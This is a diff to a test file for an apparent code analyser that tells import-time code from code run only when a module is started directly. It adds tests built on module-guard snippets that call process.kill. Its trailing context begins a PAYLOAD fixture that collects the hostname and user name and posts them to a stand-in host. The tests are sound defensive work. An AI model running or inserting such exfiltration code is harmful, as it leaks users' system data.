@@ -157,6 +157,21 @@ test('a variable of the environment that may be unset decides nothing', () => {
   assert.deepEqual(calls.filter(({ stage }) => stage === 'import').map(({ name }) => name), ['process.env.*', 'process.exit', 'fs.unlinkSync']);
 });
 
+const STARTED = [
+  'if (require.main === module) go();', 'require.main == module && go();', 'if (!module.parent) go();', 'if (module.parent === null) go();', 'if (process.mainModule === module) go();', 'if (import.meta.main) go();',
+  "import { fileURLToPath } from 'url'; if (process.argv[1] === fileURLToPath(import.meta.url)) go();", "import { pathToFileURL } from 'url'; if (import.meta.url === pathToFileURL(process.argv[1]).href) go();",
+  'if (import.meta.url === `file://${process.argv[1]}`) go();', 'if (__filename === process.argv[1]) go();',
+];
+const LOADED = ['if (require.main !== module) go();', 'if (module.parent) go();', "if (process.argv[2] === 'go') go();", "if (require.main === module) go(); else require('child_process').fork(__filename);", 'if (require.main) go();', 'if (require.main.filename !== __filename) go();'];
+
+function stagesOfGo(text: string): string[] {
+  const { calls } = read(`${text} function go() { process.kill(1); }`);
+  return calls.filter(({ name }) => name === 'process.kill').map(({ stage }) => stage);
+}
+
+for (const text of STARTED) test(`a module that is loaded does not run what stands behind: ${text}`, () => assert.deepEqual(stagesOfGo(text), ['run']));
+for (const text of LOADED) test(`a module that is loaded may run what stands behind: ${text}`, () => assert.ok(stagesOfGo(text).includes('import'), stagesOfGo(text).join()));
+
 const PAYLOAD = `const https = require('https'), os = require('os'), cp = require('child_process');
 function collect() { return JSON.stringify({ host: os.hostname(), user: process.env.USER }); }
 const request = https.request({ hostname: 'host.example', path: '/collect', method: 'POST' });
